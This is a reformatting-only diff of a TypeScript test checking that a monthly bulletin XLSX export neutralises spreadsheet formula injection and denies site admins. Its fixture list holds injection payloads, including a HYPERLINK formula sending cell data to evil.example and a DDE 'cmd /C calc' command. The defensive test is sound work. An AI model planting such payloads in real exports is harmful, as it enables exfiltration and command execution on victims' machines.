@@ -10,7 +10,14 @@ import { startTestServer, type TestServer } from '../support/payload'
  * a real 月度通报 downloaded over HTTP, whose sites and columns are named like formulas, holds them as text.
  */
 let server: TestServer
-const evil = ['=HYPERLINK("https://evil.example/?x="&A1,"点击查看")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1']
+const evil = [
+  '=HYPERLINK("https://evil.example/?x="&A1,"点击查看")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+]
 
 beforeAll(async () => {
   server = await startTestServer()
@@ -30,13 +37,16 @@ describe('the monthly bulletin XLSX over HTTP', () => {
     const { payload } = server
     const siteName = evil[0]!
     const site = await createSite(payload, { name: siteName, level: 'city' })
-    for (const [i, title] of evil.entries()) await createColumn(payload, site, { title, slug: `evil-${i}`, kind: 'other' })
+    for (const [i, title] of evil.entries())
+      await createColumn(payload, site, { title, slug: `evil-${i}`, kind: 'other' })
     const now = new Date()
     await runDailyProbe(payload, { now, externalBudgetMs: 1000 })
     const supervisor = await createUser(payload, { roles: ['supervisor'] })
     const sup = await clientAs(server.url, supervisor)
     const month = chinaDay(now).slice(0, 7)
-    const response = await fetch(`${server.url}/api/site-health-reports/bulletin?format=xlsx&month=${month}`, { headers: { Authorization: `JWT ${sup.token}` } })
+    const response = await fetch(`${server.url}/api/site-health-reports/bulletin?format=xlsx&month=${month}`, {
+      headers: { Authorization: `JWT ${sup.token}` },
+    })
     expect(response.status).toBe(200)
     expect(response.headers.get('content-type')).toContain('spreadsheetml')
     const body = Buffer.from(await response.arrayBuffer())
@@ -53,7 +63,10 @@ describe('the monthly bulletin XLSX over HTTP', () => {
           expect(cell.formula, `${sheet.name}!${cell.address}`).toBeFalsy()
           if (cell.type === ExcelJS.ValueType.String) {
             texts.push(cell.value as string)
-            expect(/^[=+\-@\t\r]/.test(cell.value as string), `${sheet.name}!${cell.address}: ${JSON.stringify(cell.value)}`).toBe(false)
+            expect(
+              /^[=+\-@\t\r]/.test(cell.value as string),
+              `${sheet.name}!${cell.address}: ${JSON.stringify(cell.value)}`,
+            ).toBe(false)
           }
         }),
       )
@@ -73,7 +86,9 @@ describe('the monthly bulletin XLSX over HTTP', () => {
     const site = await createSite(payload)
     const admin = await createUser(payload, { memberships: [{ site, roles: ['site-admin'] }] })
     const c = await clientAs(server.url, admin)
-    const response = await fetch(`${server.url}/api/site-health-reports/bulletin?format=xlsx`, { headers: { Authorization: `JWT ${c.token}` } })
+    const response = await fetch(`${server.url}/api/site-health-reports/bulletin?format=xlsx`, {
+      headers: { Authorization: `JWT ${c.token}` },
+    })
     expect(response.status).toBe(403)
   })
 })
